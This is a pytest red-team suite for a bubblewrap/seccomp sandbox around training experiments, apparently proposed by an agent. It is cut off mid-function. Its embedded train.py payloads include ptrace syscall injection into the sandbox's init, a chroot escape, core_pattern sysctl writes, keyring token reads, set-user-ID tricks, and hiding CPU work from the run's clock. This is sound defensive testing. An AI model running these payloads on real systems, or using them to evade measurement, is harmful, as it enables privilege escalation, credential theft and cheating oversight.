"""Red team: the fork-and-join path (evaluator/confined.py, joining.py), attacked from inside the experiment.

The experiment is forked from the evaluator, joins a sandbox bubblewrap made around a waiting `sleep` (the
anchor), forks once more into its PID namespace, drops every privilege and runs train.py under the SIGCHLD
filter. Each test runs a cheating train.py through the real loop (CPU, tiny preset, 1-second budget) and
asserts what a user cares about: the run cannot count less time than it trained, reach the loop's secrets,
the validation rows or anything outside its box, leave something for a later run, or outlive itself.

Four of these failed when written (the break is in the test's docstring, with its root cause and fix):
- the anchor's processes (bubblewrap's init and the `sleep`) run without the seccomp filter, and the
  experiment may ptrace them: it makes init ignore SIGCHLD and trains in helpers nobody counts;
- run as root, the sandbox's /proc/sys is writable: kernel.core_pattern and the like, global to the machine;
- the kernel keyring: the loop's session keyring is inherited by the experiment (read its keys, leave one
  for the next run);
- the experiment's compile cache was torch's default one, outside the sandbox's private /tmp.
"""

from __future__ import annotations

import ctypes
import errno
import hashlib
import json
import os
import platform
import secrets as random_secrets
import signal
import stat
import sys
import textwrap
import time
from pathlib import Path

import psutil
import pytest
from loop_support import make_loop, one_edit
from test_red_team import PROBED, SCAN, START, first_run_log, protected, run_log

from autoresearch.data.shards import Manifest
from autoresearch.data.sources import VAL
from autoresearch.evaluator import compile_cache, sandbox, syscalls
from autoresearch.loop.executor import LocalExecutor
from autoresearch.vocabulary import Status

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(not sys.platform.startswith("linux"), reason="forking into a sandbox is Linux's"),
    pytest.mark.skipif(sandbox.unavailable_reason() is not None, reason="bubblewrap cannot confine here"),
]
STEP = "        run.step_done(loss)\n"


def inside(code: str, depth: int = 1) -> str:
    """`code` (written at column 0) as lines of train.py's main block (depth 2: of its training loop)."""
    return textwrap.indent(textwrap.dedent(code), "    " * depth)


def result_of(exp) -> dict:
    return json.loads(exp.result)


# -- the anchor: bubblewrap's init and the `sleep`, in the experiment's PID namespace -------------------

# Make process `pid` run one system call, through ptrace (x86-64): the experiment has no capability, but the
# anchor's processes share its user, its (empty) capability sets and its user namespace, and are dumpable.
INJECT = """\
import ctypes, os, struct, time
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
REGS = ("r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss fs_base "
        "gs_base ds es fs gs").split()

class Regs(ctypes.Structure):
    _fields_ = [(name, ctypes.c_ulonglong) for name in REGS]

def traced(result, what):
    if result < 0:
        raise OSError(ctypes.get_errno(), what)

def syscall_in(pid, nr, args, data):
    traced(libc.ptrace(16, pid, None, None), "PTRACE_ATTACH")
    os.waitpid(pid, 0x40000000)
    saved, regs = Regs(), Regs()
    traced(libc.ptrace(12, pid, None, ctypes.byref(saved)), "PTRACE_GETREGS")
    with open(f"/proc/{pid}/mem", "r+b", 0) as mem:
        mem.seek(saved.rip - 2)
        assert mem.read(2) == b"\\x0f\\x05", "not stopped in a system call"
        scratch = (saved.rsp - 4096) & ~0xF
        mem.seek(scratch)
        mem.write(data)
        ctypes.memmove(ctypes.byref(regs), ctypes.byref(saved), ctypes.sizeof(Regs))
        regs.rip, regs.rax, regs.orig_rax = saved.rip - 2, nr, 2**64 - 1
        for name, value in zip(("rdi", "rsi", "rdx", "r10"), [scratch if a is None else a for a in args]):
            setattr(regs, name, value)
        traced(libc.ptrace(13, pid, None, ctypes.byref(regs)), "PTRACE_SETREGS")
        traced(libc.ptrace(9, pid, None, None), "PTRACE_SINGLESTEP")
        os.waitpid(pid, 0x40000000)
        traced(libc.ptrace(12, pid, None, ctypes.byref(regs)), "PTRACE_GETREGS")
    traced(libc.ptrace(13, pid, None, ctypes.byref(saved)), "PTRACE_SETREGS")
    traced(libc.ptrace(17, pid, None, None), "PTRACE_DETACH")
    return ctypes.c_longlong(regs.rax).value

def hidden_work(seconds):
    # A helper orphaned to bwrap's init: when init ignores SIGCHLD, the kernel reaps it, its time counted nowhere.
    r, w = os.pipe()
    child = os.fork()
    if child == 0:
        if os.fork() == 0:
            t0, n = time.process_time(), 0
            while time.process_time() - t0 < seconds:
                for i in range(10000):
                    n += i
            os.write(w, f"{os.getpid()} {time.process_time() - t0}".encode())
            os._exit(0)
        os._exit(0)
    os.waitpid(child, 0)
    pid, used = os.read(r, 100).decode().split()
    while os.path.exists(f"/proc/{pid}"):
        time.sleep(0.01)
    return float(used)
"""

HIDE = """\
if run.step == run.untimed_steps:  # the clock has just started
    try:  # rt_sigaction(SIGCHLD, {SIG_IGN}, NULL, 8) in bwrap's init, pid 1: it has no seccomp filter
        print("INJECTED", syscall_in(1, 13, (17, None, 0, 8), struct.pack("QQQQ", 1, 0, 0, 0)), flush=True)
    except (OSError, AssertionError) as exc:
        print("injection refused", exc, flush=True)
    print("HIDDEN", sum(hidden_work(0.5) for _ in range(8)), "CORES", run._cpu_cores, flush=True)
"""


@pytest.mark.skipif(platform.machine() != "x86_64", reason="the injection is written for x86-64")
@pytest.mark.skipif(syscalls.unavailable_reason() is not None, reason="needs libseccomp (Linux)")
def test_work_hidden_in_helpers_reaped_by_a_ptraced_anchor_is_counted_on_the_clock(lab) -> None:
    """BREAK (when written). The anchor bwrap is started without `--seccomp` (confined.start_anchor), so its
    init (pid 1) and `sleep` (pid 2) have no filter; they run as the experiment's user in its user namespace with
    the same empty capability sets, so PTRACE_ATTACH and /proc/1/mem are allowed. The experiment makes init run
    rt_sigaction(SIGCHLD, SIG_IGN): its orphaned helpers are then reaped by the kernel and their CPU time is
    counted by no one (CpuClock reads the tree). Here 4 CPU-seconds of work after the clock started were not
    counted: the run reports about its 1-second budget and is valid. Fix: give the anchor the same filter
    (`sandbox.command(..., seccomp_fd=syscalls.bpf_fd())`, passing the fd), as the plain path does (bwrap puts
    its init under --seccomp too); better still, refuse ptrace/process_vm_writev in the filter as well."""
    ws, loop = lab
    cheat = one_edit("hide work from the clock", [(START, START + inside(INJECT)), (STEP, STEP + inside(HIDE, 2))])
    exp = loop.step(cheat)
    log = run_log(ws, exp.id)
    assert "HIDDEN" in log, log
    hidden, cores = (float(x) for x in log.split("HIDDEN", 1)[1].split()[0:3:2])
    result = result_of(exp)
    # Either the work is on the clock (and then past the budget: invalid), or the run is refused for it.
    assert not result["valid"] or result["training_seconds"] >= 0.9 * hidden / cores, (result, log)
    assert exp.status != Status.KEEP or result["training_seconds"] >= 0.9 * hidden / cores


# Whether the experiment can write the anchor's memory or trace it, either of which would have it run what it is given.
REACH_THE_ANCHOR = """\
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
reached = []
try:
    open("/proc/1/mem", "r+b", 0).close()
    reached.append("mem")
except OSError:
    pass
if libc.ptrace(16, 1, None, None) == 0:  # PTRACE_ATTACH
    reached.append("ptrace")
    libc.ptrace(17, 1, None, None)
print("ANCHOR REACHED", reached, flush=True)
"""


def test_the_experiment_can_neither_write_nor_trace_the_anchor(lab) -> None:
    """BROKE, fixed: the anchor was bwrap's init and a `sleep`, dumpable and without a capability, as the experiment
    is: through /proc/2/mem (no ptrace needed) the experiment rewrote the `sleep` to run a program of its own, which
    forked 300 times under a cap of 48 tasks, outside the run's group and its RLIMIT_NPROC (red team), and could as
    well have worked off the clock. The anchor is now a process of ours, the namespace's init, and not dumpable."""
    ws, loop = lab
    exp = loop.step(one_edit("reach the anchor", [(START, START + inside(REACH_THE_ANCHOR) + PROBED)]))
    assert "ANCHOR REACHED []" in run_log(ws, exp.id), run_log(ws, exp.id)


def test_the_anchor_cannot_be_killed_from_inside(lab, tiny_prepared: Path) -> None:
    """BROKE, fixed: the anchor is its PID namespace's init, and a signal from inside reaches an init only where it
    has a handler, but Python's for SIGINT was left in it; and the experiment, of the anchor's user, set its CPU limit
    (red team). Now SIGKILL, SIGINT, SIGTERM and SIGSTOP to pid 1 do nothing, prlimit on it is refused, and SIGKILL to
    every process the experiment may signal finds none (an init and itself are spared). The run goes on, and so does
    the next."""
    ws, loop = lab
    before = protected(ws, tiny_prepared)
    kill = inside(
        """\
        import os, resource, signal, time
        for sig in (signal.SIGKILL, signal.SIGINT, signal.SIGTERM, signal.SIGSTOP):
            try:  # ignored where the run is the anchor's user; refused where it is a user of its own (run_user.py)
                os.kill(1, sig)
            except PermissionError:
                pass
        try:  # a CPU limit of 1 s, then kept busy reaping: the kernel would kill it
            resource.prlimit(1, resource.RLIMIT_CPU, (1, 1))
            limit = "set"
        except OSError:
            limit = "refused"
        time.sleep(0.2)
        try:
            os.kill(-1, signal.SIGKILL)
            others = "killed"
        except ProcessLookupError:
            others = "none"
        alive = "alive" if os.path.exists("/proc/1") else "gone"
        print("KILLING the anchor:", alive, "limit:", limit, "others:", others, flush=True)
        """
    )
    batches = "    batches = run.train_batches(BATCH)\n"
    exp = loop.step(one_edit("kill the anchor", [(batches, kill + batches)]))
    assert "KILLING the anchor: alive limit: refused others: none" in run_log(ws, exp.id), run_log(ws, exp.id)
    assert exp.status != Status.CRASH and result_of(exp)["valid"], exp.reason
    honest = loop.step(one_edit("an honest change", [("LR = 0.05", "LR = 0.04")]))
    assert honest.status != Status.CRASH and result_of(honest)["valid"], honest.reason
    assert protected(ws, tiny_prepared) == before


def test_being_traced_by_the_intermediate_fork_ends_the_run_and_leaves_nothing(lab) -> None:
    """HOLDS. PTRACE_TRACEME makes the intermediate fork (outside the PID namespace) the experiment's tracer;
    stopped, the experiment makes that fork's waitpid return early, and it exits (126) while the experiment
    lives on, reparented outside the evaluator's tree. The channel closes with it, the run is a crash and the
    PID namespace dies with the anchor: the helper that would write into the shared compile cache never does."""
    ws, loop = lab
    marker = f"traceme-{os.getpid()}-{time.time_ns()}"
    detach = inside(
        f"""\
        import ctypes, os, signal, subprocess, time
        cache = os.environ["TORCHINDUCTOR_CACHE_DIR"]
        subprocess.Popen(["sh", "-c", f"sleep 2; echo pwned > {{cache}}/{marker}", "{marker}"], start_new_session=True)
        print("SPAWNED", time.time(), flush=True)
        print("TRACEME", ctypes.CDLL(None).ptrace(0, 0, None, None), flush=True)
        os.kill(os.getpid(), signal.SIGSTOP)
        time.sleep(30)
        """
    )
    exp = loop.step(one_edit("be traced by the intermediate", [(START, START + detach)]))
    assert "TRACEME 0" in run_log(ws, exp.id)
    assert exp.status == Status.CRASH, exp.reason
    spawned = float(run_log(ws, exp.id).split("SPAWNED", 1)[1].split()[0])
    time.sleep(max(0.0, spawned + 3 - time.time()))  # past when the helper would have written
    assert not [p for p in psutil.process_iter(["cmdline"]) if marker in " ".join(p.info["cmdline"] or [])]
    caches = [Path(os.environ.get("AUTORESEARCH_CACHE", "")) / "compile", Path("/tmp")]
    # os.walk, not rglob: other tests leave folders past PATH_MAX in /tmp, which rglob fails on
    assert not [name for root in caches for _, dirs, names in os.walk(root) for name in dirs + names if name == marker]


# -- what the experiment inherits and sees ------------------------------------------------------------

LOOK = """\
import json, os
def link(path):
    try:
        return os.readlink(path)
    except OSError as exc:
        return f"error {exc.errno}"
listed = {int(fd): link(f"/proc/self/fd/{fd}") for fd in os.listdir("/proc/self/fd")}
open_fds = []
for fd in range(3, 1024):
    try:
        os.fstat(fd)
        open_fds.append(fd)
    except OSError:
        pass
procs = {int(p): open(f"/proc/{p}/cmdline", "rb").read().replace(b"\\0", b" ").decode(errors="replace")
         for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()}  # itself: the zygote's argv
seen = {"fds": open_fds, "listed": {fd: t for fd, t in listed.items() if not t.startswith("/proc")},
        "cwd": link("/proc/self/cwd"), "root": link("/proc/self/root"), "ppid": os.getppid(), "procs": procs,
        "channel": int(os.environ["AUTORESEARCH_CHANNEL"]), "init_root": link("/proc/1/root")}
print("SEEN " + json.dumps(seen), flush=True)
"""


def test_the_experiment_inherits_no_descriptor_and_sees_no_process_of_the_trusted_side(lab) -> None:
    """HOLDS. Of the evaluator's and the fork server's descriptors only its output and the channel are left;
    its directory is its box, its root the sandbox's; its parent (the intermediate fork) is outside its PID
    namespace, which holds the anchor, its init, and its own processes only."""
    ws, loop = lab
    exp = loop.step(one_edit("look around", [(START, START + inside(LOOK) + PROBED)]))
    seen = json.loads(run_log(ws, exp.id).split("SEEN ", 1)[1].splitlines()[0])
    assert seen["fds"] == [seen["channel"]], seen
    assert seen["listed"]["0"] == "/dev/null" and seen["listed"][str(seen["channel"])].startswith("socket:")
    assert {seen["listed"]["1"], seen["listed"]["2"]} == {seen["listed"]["1"]} and "pipe:" in seen["listed"]["1"]
    assert seen["cwd"].startswith(str(ws.state.resolve() / "box-")) and seen["root"] == "/"
    assert seen["init_root"] == f"error {errno.EACCES}"  # the anchor's, not dumpable: not the experiment's to look into
    assert seen["ppid"] == 0
    assert max(map(int, seen["procs"])) < 10, seen["procs"]
    # The anchor, its init, and nothing of the trusted side.
    assert list(seen["procs"]) == ["1"] and seen["procs"]["1"].startswith(f"{sys.executable} -I -S -c"), seen["procs"]


def test_the_experiments_memory_holds_no_validation_rows_and_no_runs_job(lab, tiny_prepared: Path) -> None:
    """HOLDS. The experiment is forked from the evaluator before it reads the validation shard or its job
    (log and result paths), from a fork server that never holds either: no page it inherits has them, nor the
    job of the run before it."""
    ws, loop = lab
    manifest = Manifest.load(tiny_prepared / "manifest.json")
    val = (tiny_prepared / f"{manifest.split(VAL)[0].name}.bin").read_bytes()
    train = b"".join((tiny_prepared / f"{s.name}.bin").read_bytes() for s in manifest.shards if s.split != VAL)
    windows = [val[at : at + 64] for at in range(4096, len(val) - 64, len(val) // 16)]
    windows = [w for w in windows if w not in train and len(set(w)) > 8][:6]  # only in the validation rows
    assert len(windows) >= 3
    last = loop.ledger.all()[-1].id
    jobs = [str(ws.state / "runs" / f"{i}-0" / name) for i in (last, loop.ledger.next_id()) for name in ("result.json",
            "log.txt")]  # fmt: skip
    wanted = [(w[:16], len(w), hashlib.sha256(w).hexdigest()) for w in windows]
    wanted += [(j[:24].encode(), len(j), hashlib.sha256(j.encode()).hexdigest()) for j in jobs]
    exp = loop.step(one_edit("scan for rows and jobs", [(START, START + SCAN.format(wanted=wanted) + PROBED)]))
    assert "SCANNED []" in run_log(ws, exp.id), run_log(ws, exp.id)


# -- escaping the root, the mounts and the capabilities -------------------------------------------------

ESCAPE = """\
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
print("unshare", libc.unshare(0x10000000 | 0x00020000), flush=True)  # a user namespace of its own, and mounts
print("umount", libc.umount2(WORKSPACE.encode(), 2), "remount", libc.mount(None, b"/", None, 0x20 | 0x1000, None))
os.makedirs("jail", exist_ok=True)
if libc.chroot(b"jail") == 0:  # the classic escape: chroot below the cwd, then climb out
    for _ in range(64):
        os.chdir("..")
    libc.chroot(b".")
for target in TARGETS:
    try:
        open(target, "rb").read(16)
        print("REACHED", target)
    except OSError as exc:
        print("blocked", target, exc.errno)
print("workspace shows", sorted(os.listdir(WORKSPACE)))
"""


def test_a_user_namespace_of_its_own_opens_no_way_out(lab, tiny_prepared: Path) -> None:
    """HOLDS. The experiment may make a user namespace (and there every capability, over its own namespaces
    only): the mounts that hide the workspace and the data are locked, / stays read-only, and climbing out
    of a chroot ends at the sandbox's root."""
    ws, loop = lab
    val = Manifest.load(tiny_prepared / "manifest.json").split(VAL)[0].name
    targets = [str(ws.state / "ledger.sqlite"), str(tiny_prepared / f"{val}.bin"), str(ws.root / "autoresearch.json")]
    head = f"WORKSPACE, TARGETS = {str(ws.root.resolve())!r}, {targets!r}\n"
    exp = loop.step(one_edit("climb out", [(START, START + inside(head + ESCAPE) + PROBED)]))
    log = run_log(ws, exp.id)
    # A line of its own: an earlier test's train.py, kept by chance, may print "ANCHOR REACHED []" in this run too.
    assert not [line for line in log.splitlines() if line.startswith("REACHED")], log
    assert first_run_log(ws, exp.id).count("blocked") == 3, log
    assert "workspace shows ['.autoresearch']" in log, log


SYSCTL = """\
import os
for name in ("kernel/core_pattern", "vm/overcommit_memory"):  # global to the machine, not to the sandbox
    path = "/proc/sys/" + name
    try:
        value = open(path, "rb").read()
        fd = os.open(path, os.O_WRONLY)
        try:
            os.write(fd, value)  # the value it has: a write that changes nothing, but shows it could
        finally:
            os.close(fd)
        print("SYSCTL WRITTEN", name, flush=True)
    except OSError as exc:
        print("sysctl refused", name, exc.errno, flush=True)
"""


def test_the_experiment_cannot_write_the_machines_sysctls(lab) -> None:
    """BREAK (when written, with the loop run as root). bubblewrap mounts a fresh /proc; /proc/sys in it is not
    made read-only (bwrap 0.8 skips covering it), and sysctl files check only the file mode against the caller's
    uid, not capabilities: as uid 0 (root's uid, mapped to itself in the sandbox's user namespace) the experiment
    can write kernel.core_pattern ("|/its/box/program" runs that program as full root outside every namespace
    when any process dumps core), vm.*, kernel.* ... of the whole machine. (Here it writes back the value already
    there.) Fix: `--ro-bind /proc/sys /proc/sys` (and `--ro-bind-try /proc/sysrq-trigger ...`) right after
    `--proc /proc` in sandbox.command; a sandbox uid other than 0 (bwrap --uid/--gid with a user namespace) as
    well, or refusing to run confined as root."""
    ws, loop = lab
    exp = loop.step(one_edit("write sysctls", [(START, START + inside(SYSCTL) + PROBED)]))
    log = run_log(ws, exp.id)
    assert "SYSCTL WRITTEN" not in log and first_run_log(ws, exp.id).count("sysctl refused") == 2, log


# A GPU whose node is not bound cannot be opened; the experiment makes the node itself (NVIDIA's major is 195),
# where it can write and in the fresh /dev, and opens it. (The null device's numbers, 1:3, show whether a device
# node made there would open at all: no NVIDIA driver is needed for that.)
MAKE_NODE = """\
import os, stat
for where in ("/dev", "/tmp", os.getcwd()):
    for major, minor in ((195, 1), (1, 3)):
        path = os.path.join(where, f"node-{major}-{minor}")
        try:
            os.mknod(path, 0o666 | stat.S_IFCHR, os.makedev(major, minor))
            os.close(os.open(path, os.O_RDWR))
            print("NODE OPENED", path, flush=True)
        except OSError as exc:
            print("node refused", path, exc.errno, flush=True)
"""


def test_the_experiment_cannot_make_the_device_node_of_a_gpu_it_was_not_given(lab) -> None:
    """HOLDS. Binding only its own GPU's node (evaluator/gpu_nodes.py) keeps another worker's GPU out only if the
    experiment cannot make that node itself: it has no capability (CAP_MKNOD), and a node it could make would not
    open."""
    ws, loop = lab
    exp = loop.step(one_edit("make a GPU's node", [(START, START + inside(MAKE_NODE) + PROBED)]))
    log = run_log(ws, exp.id)
    assert "NODE OPENED" not in log and first_run_log(ws, exp.id).count("node refused") == 6, log


# -- leaving something for a later run ------------------------------------------------------------------

LEAVE = """\
import ctypes, os, socket, subprocess, sys, time
libc = ctypes.CDLL(None, use_errno=True)
for path in ("/tmp/carried", "/dev/shm/carried"):
    with open(path, "w") as f:
        f.write("weights")
libc.shmget.restype = ctypes.c_int
libc.shmat.restype = ctypes.c_void_p
segment = libc.shmget(0x52454454, 4096, 0o1000 | 0o600)  # IPC_CREAT: SysV shared memory outlives processes
address = libc.shmat(segment, None, 0) if segment >= 0 else None
if address not in (None, 2**64 - 1):
    ctypes.memmove(address, b"weights", 7)
server = ("import socket, time; s = socket.socket(socket.AF_UNIX); "
          "s.bind(b'\\\\0autoresearch-carried'); s.listen(); time.sleep(60)")
subprocess.Popen([sys.executable, "-c", server], start_new_session=True)
for _ in range(200):  # until its server listens: the run ends once it has left all (LEFT)
    try:
        socket.socket(socket.AF_UNIX).connect(b"\\0autoresearch-carried")
        print("LEFT", segment, flush=True)
        break
    except OSError:
        time.sleep(0.05)
"""

FIND = """\
import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
found = [p for p in ("/tmp/carried", "/dev/shm/carried") if os.path.exists(p)]
if libc.shmget(0x52454454, 0, 0) >= 0:
    found.append("sysv-shm")
try:
    socket.socket(socket.AF_UNIX).connect(b"\\0autoresearch-carried")
    found.append("abstract-socket")
except OSError:
    pass
print("CARRIED OVER", found if found else "nothing", flush=True)
"""


def test_nothing_passes_to_the_next_run_through_tmp_shm_ipc_or_sockets(lab, monkeypatch: pytest.MonkeyPatch) -> None:
    """HOLDS. With a compile cache per run, a run's /tmp, /dev/shm, SysV IPC and abstract sockets are its
    sandbox's own (tmpfs, IPC and network namespaces of its own): all gone with it."""
    ws, _ = lab
    monkeypatch.setenv("AUTORESEARCH_COMPILE_CACHE", "run")
    loop = make_loop(ws, LocalExecutor(prewarm=False), baseline_runs=2)
    left = loop.step(one_edit("leave things behind", [(START, START + inside(LEAVE) + PROBED)]))
    assert "LEFT" in run_log(ws, left.id), run_log(ws, left.id)
    exp = loop.step(one_edit("look for them", [(START, START + inside(FIND) + PROBED)]))
    assert "CARRIED OVER nothing" in run_log(ws, exp.id), run_log(ws, exp.id)


KEYS = """\
import ctypes
import errno
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def keys(ring):  # keyctl(KEYCTL_READ, ring): the serials it links
    buf = ctypes.create_string_buffer(4096)
    n = libc.syscall(250, 11, ctypes.c_long(ring), buf, 4096)
    return [int.from_bytes(buf.raw[i:i + 4], "little") for i in range(0, max(n, 0), 4)]
def payload(key):
    buf = ctypes.create_string_buffer(4096)
    n = libc.syscall(250, 11, ctypes.c_long(key), buf, 4096)
    return buf.raw[:n].decode(errors="replace") if n >= 0 else None
rings = {"session": -3, "user": -4, "user-session": -5}
"""
READ_KEYS = (
    KEYS
    + """\
for name, ring in rings.items():
    print("KEYS in", name, [payload(k) for k in keys(ring)], flush=True)
    libc.syscall(248, b"user", b"carried", b"weights", 7, ctypes.c_long(ring))  # add_key: left for later
"""
)
FIND_KEYS = (
    KEYS
    + """\
found = [name for name, ring in rings.items() if "weights" in [payload(k) for k in keys(ring)]]
print("CARRIED OVER", found if found else "nothing", flush=True)
"""
)


def test_the_loops_keyring_is_out_of_reach_and_carries_nothing_over(lab, monkeypatch: pytest.MonkeyPatch) -> None:
    """BREAK (when written, wherever the loop runs with a session keyring: a login through pam_keyinit, ...).
    Keyrings belong to no namespace bubblewrap makes, and joining the anchor's user namespace keeps the
    session keyring: the experiment possesses the loop's, reads every key in it (tokens the user keeps there)
    and adds one that the next run reads, with a compile cache per run too. Fix: in the experiment, before
    train.py, join a new anonymous session keyring (keyctl(KEYCTL_JOIN_SESSION_KEYRING, NULL)), and refuse
    add_key, request_key and keyctl in the seccomp filter (as container runtimes do)."""
    ws, _ = lab
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    assert libc.syscall(250, 1, None) > 0  # KEYCTL_JOIN_SESSION_KEYRING: a session keyring, as a login has
    secret = "tok-redteam-" + random_secrets.token_hex(16)
    assert libc.syscall(248, b"user", b"api-token", secret.encode(), len(secret), ctypes.c_long(-3)) > 0
    try:
        monkeypatch.setenv("AUTORESEARCH_COMPILE_CACHE", "run")
        loop = make_loop(ws, LocalExecutor(prewarm=False), baseline_runs=2)  # its processes inherit the keyring
        first = loop.step(one_edit("read and leave keys", [(START, START + inside(READ_KEYS) + PROBED)]))
        log = run_log(ws, first.id)
        assert "KEYS in" in log and secret not in log, log
        second = loop.step(one_edit("look for keys", [(START, START + inside(FIND_KEYS) + PROBED)]))
        assert "CARRIED OVER nothing" in run_log(ws, second.id), run_log(ws, second.id)
    finally:
        libc.syscall(250, 7, ctypes.c_long(-3))  # KEYCTL_CLEAR our session keyring


def test_the_experiments_compile_cache_is_its_own_layer_not_torchs_default(lab) -> None:
    """Was a break: the fork server's `boot.prepare()` makes torch call Inductor's cache_dir(), which sets
    TORCHINDUCTOR_CACHE_DIR to torch's default (/tmp/torchinductor_$USER); evaluators inherited it and passed it
    on, so the experiment wrote the default Inductor cache of every torch program of this user. Now the run's
    caches are its own layer (evaluator/compile_cache.py), set whatever the environment says."""
    ws, loop = lab
    show = inside('import os\nprint("CACHE", os.environ["TORCHINDUCTOR_CACHE_DIR"], flush=True)\n')
    exp = loop.step(one_edit("where is the cache", [(START, START + show + PROBED)]))
    where = run_log(ws, exp.id).split("CACHE ", 1)[1].split()[0]
    assert where == str(compile_cache.INSIDE / "inductor"), where


# Makes an inotify instance, and an unprivileged fanotify group (Linux 5.13 and later let any user have one that
# reports file ids), as many as it may: each line "NOTIFY name made N" or "NOTIFY name refused ERRNO".
NOTIFY = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for name, make in (("inotify", lambda: libc.inotify_init1(0)), ("fanotify", lambda: libc.fanotify_init(0x200, 0))):
    made = 0
    while made < 4096 and make() >= 0:
        made += 1
    print("NOTIFY", name, f"made {made}" if made else f"refused {ctypes.get_errno()}", flush=True)
"""


def test_a_run_cannot_use_up_the_inotify_instances_of_whoever_made_its_namespace(lab) -> None:
    """BROKE (helper 111): the kernel charges the inotify instances and watches (and fanotify's groups and marks) of a
    user namespace's users to the user who made it as well, against that user's own limit (128 instances). A run held
    them all while it lived: root's processes, or the user's (systemd, an editor, a coding agent's tools), got EMFILE
    from inotify_init1. Fixed: the seccomp filter refuses both to the experiment, which needs neither."""
    ws, loop = lab
    exp = loop.step(one_edit("watch files", [(START, START + inside(NOTIFY))]))
    log = run_log(ws, exp.id)
    assert f"NOTIFY inotify refused {errno.EPERM}" in log, log
    assert f"NOTIFY fanotify refused {errno.EPERM}" in log, log
    assert result_of(exp)["valid"], log


# Tries a socket of AF_VSOCK, and to change the anchor's (pid 1's) scheduling; and what an honest run may do: its own
# priority, a Unix socket. Each line "REACH what done" or "REACH what ERRNO".
REACH = """
import os, socket
for what, act in (
    ("vsock", lambda: socket.socket(40, socket.SOCK_STREAM).close()),
    ("idle", lambda: os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0))),
    ("group", lambda: os.setpriority(os.PRIO_PGRP, 0, 19)),
    ("anchor", lambda: os.setpriority(os.PRIO_PROCESS, 1, 19)),
    ("own", lambda: os.setpriority(os.PRIO_PROCESS, 0, 1)),
    ("unix", lambda: socket.socket(socket.AF_UNIX).close()),
):
    try:
        act()
        print("REACH", what, "done", flush=True)
    except OSError as err:
        print("REACH", what, err.errno, flush=True)
"""


def test_a_run_can_neither_open_a_vsock_nor_change_its_anchors_scheduling(lab) -> None:
    """AF_VSOCK is held by no network namespace: from a VM's guest it reaches the host, whose agents run what they are
    sent (red team, from an agent's turn). And the anchor, of a loop not run as root the run's own user, could be
    set SCHED_IDLE beside busy loops, to reap and end the box late (red team, on an agent's turn's anchor). The filter
    refuses both; a run's own priority and its Unix sockets stay its."""
    ws, loop = lab
    exp = loop.step(one_edit("reach out", [(START, START + inside(REACH))]))
    log = run_log(ws, exp.id)
    said = dict(line.split()[1:3] for line in log.splitlines() if line.startswith("REACH "))
    refused = {"vsock": str(errno.EAFNOSUPPORT), **dict.fromkeys(("idle", "group", "anchor"), str(errno.EPERM))}
    assert said == {**refused, "own": "done", "unix": "done"}, log
    assert result_of(exp)["valid"], log


# Tries to leave a file set-user-ID or set-group-ID in the run's box, every way a mode is set or a file made: each line
# "SETID how made" or "SETID how refused ERRNO"; and a plain chmod, which must work.
SET_ID = """
import os, shutil, stat
shutil.copy("/bin/true", "tool")
def tried(how, call):
    try:
        call()
        made = [n for n in os.listdir(".") if os.stat(n).st_mode & 0o6000]
        print("SETID", how, "made" if made else "no bits", flush=True)
    except OSError as exc:
        print("SETID", how, "refused", exc.errno, flush=True)
tried("chmod", lambda: os.chmod("tool", 0o4755))
tried("chmod g", lambda: os.chmod("tool", 0o2755))
fd = os.open("tool", os.O_RDONLY)
tried("fchmod", lambda: os.fchmod(fd, 0o6755))
tried("open", lambda: os.close(os.open("new-open", os.O_CREAT | os.O_WRONLY, 0o4755)))
tried("mknod", lambda: os.mknod("new-node", 0o4755 | stat.S_IFREG))
os.chmod("tool", 0o700)
print("PLAIN", oct(os.stat("tool").st_mode & 0o7777), flush=True)
"""


def test_a_run_cannot_leave_a_set_user_id_file_for_whoever_passes_by(lab) -> None:
    """BROKE (red team): a run's files are its user's, the machine's root for a run as root (AUTORESEARCH_RUN_USER=root)
    and yours under a loop not run as root; a copy of a shell it made set-user-ID in its box (which any user may pass
    through) made whoever ran it that user while the run lived. Fixed: the seccomp filter refuses a mode with
    S_ISUID or S_ISGID, by chmod and as a file is made (syscalls.SET_ID_CALLS); a plain chmod still works."""
    ws, loop = lab
    exp = loop.step(one_edit("leave a set-user-ID file", [(START, START + inside(SET_ID))]))
    log = run_log(ws, exp.id)
    for how in ("chmod", "chmod g", "fchmod", "open", "mknod"):
        assert f"SETID {how} refused {errno.EPERM}" in log, log
    assert "PLAIN 0o700" in log and result_of(exp)["valid"], log


# Around the filter (x86-64's numbers): a mode with bits above umode_t's, an unnamed file made then linked in,
# openat2's struct, the x32 entry point, file capabilities, and a hard link to a set-ID program of the system's.
SET_ID_AROUND = """
import ctypes, json, os, shutil, stat, struct
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def call(nr, *args):
    done = libc.syscall(*(ctypes.c_long(a) if isinstance(a, int) else ctypes.c_char_p(a) for a in (nr, *args)))
    return done if done >= 0 else -ctypes.get_errno()
def x32(nr, *args):  # in a child: killed (SIGSYS), as any call of another architecture
    child = os.fork()
    if child == 0:
        os._exit(-call(0x40000000 | nr, *args) & 0xFF)
    return os.waitpid(child, 0)[1]
def unnamed():
    fd = call(257, -100, b".", 0o20200000 | os.O_RDWR, 0o755)  # openat(O_TMPFILE), a plain mode
    return call(91, fd, 0o4755), call(265, fd, b"", -100, b"linked", 0x1000)  # fchmod, linkat(AT_EMPTY_PATH)
def capability():  # security.capability, v2: CAP_SETUID permitted and effective
    try:
        os.setxattr("tool", "security.capability", struct.pack("<5I", 0x02000001, 1 << 7, 0, 0, 0))
    except OSError as exc:
        return -exc.errno
def hard_link():
    for name in sorted(os.listdir("/usr/bin")):
        if stat.S_ISREG((st := os.lstat("/usr/bin/" + name)).st_mode) and st.st_mode & 0o6000:
            try:
                os.link("/usr/bin/" + name, "held")
